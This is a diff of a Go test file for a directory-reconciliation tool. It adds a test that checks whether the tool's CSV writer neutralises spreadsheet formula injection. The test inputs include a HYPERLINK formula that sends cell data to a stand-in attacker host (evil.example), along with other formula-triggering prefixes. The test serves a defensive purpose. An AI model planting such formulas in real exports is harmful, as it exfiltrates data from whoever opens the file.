@@ -2,6 +2,7 @@ package reconcile_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -38,5 +39,40 @@ func TestTableShowsControlCharactersSpeltOut(t *testing.T) {
 	lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
 	if len(lines) != 6 || !strings.Contains(lines[1], `Eve\x1b[2J\x1b]0;owned\a x y\u009b`) || !strings.Contains(lines[4], `cn=Eve\x1b[31m`) {
 		t.Errorf("table:\n%s", s)
+	}
+}
+
+// CSV goes to spreadsheets: a cell the directory's data starts with = + - @,
+// a tab or a carriage return would be read as a formula (CWE-1236, OWASP
+// "CSV Injection"), so it is written after a single quote; other cells,
+// commas, quotes, line breaks and non-ASCII letters included, are written as
+// they are (RFC 4180 quoting).
+func TestCSVNeverWritesAFormula(t *testing.T) {
+	var out bytes.Buffer
+	w, err := reconcile.NewWriter("csv", &out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, v := range []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "Doe, \"J\"\nÜ"} {
+		if err := w.Finding(reconcile.Finding{Kind: reconcile.Unrenderable, ResourceType: "User", DN: "uid=eve,ou=people,dc=example,dc=org",
+			Attribute: "name.formatted", LDAP: "cn", Value: v, Detail: "d"}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(&reconcile.Summary{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "Doe, \"J\"\nÜ"}
+	if len(rows) != len(want)+1 {
+		t.Fatalf("rows: %q", rows)
+	}
+	for i, w := range want {
+		if rows[i+1][6] != w {
+			t.Errorf("row %d: value %q, want %q", i+1, rows[i+1][6], w)
+		}
 	}
 }
